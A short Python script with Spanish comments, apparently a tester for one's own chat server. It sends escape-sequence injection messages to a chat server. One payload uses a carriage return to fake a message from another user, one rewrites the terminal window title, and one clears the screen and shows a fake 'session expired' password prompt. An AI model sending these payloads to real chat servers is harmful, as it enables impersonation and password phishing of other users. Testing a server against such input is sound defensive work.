"""Envía al chat un mensaje que da órdenes a las terminales.

Es para probar tu propio servidor.

    python inyeccion.py imitar|titulo|borrar [host] [puerto]

Se hace pasar por otro, cambia el título de la ventana o borra la pantalla.
"""

import socket
import sys

# \r vuelve al principio de la línea; \x1b es ESC, con el que empiezan las
# órdenes a la terminal.
MENSAJES = {
    "imitar": "Hola.\rCarlos: Os invito a cenar a todos.",
    "titulo": "\x1b]0;Te estoy mirando\x07Hola.",
    "borrar": "\x1b[2J\x1b[HSesión caducada. Escribe tu contraseña:",
}

cual = sys.argv[1] if len(sys.argv) > 1 else ""
host = sys.argv[2] if len(sys.argv) > 2 else "localhost"
puerto = int(sys.argv[3]) if len(sys.argv) > 3 else 8000
if cual not in MENSAJES:
    sys.exit(f"Di cuál: {', '.join(MENSAJES)}.")
try:
    with socket.create_connection((host, puerto)) as conexion:
        conexion.sendall(f"Eva\n{MENSAJES[cual]}\n".encode())
        conexion.shutdown(socket.SHUT_WR)
        while conexion.recv(4096):
            pass  # el servidor cerrará cuando lo haya leído
    print(f"Enviado: {MENSAJES[cual]!r}")
except OSError:
    sys.exit(f"No hay ningún servidor en {host}:{puerto}.")
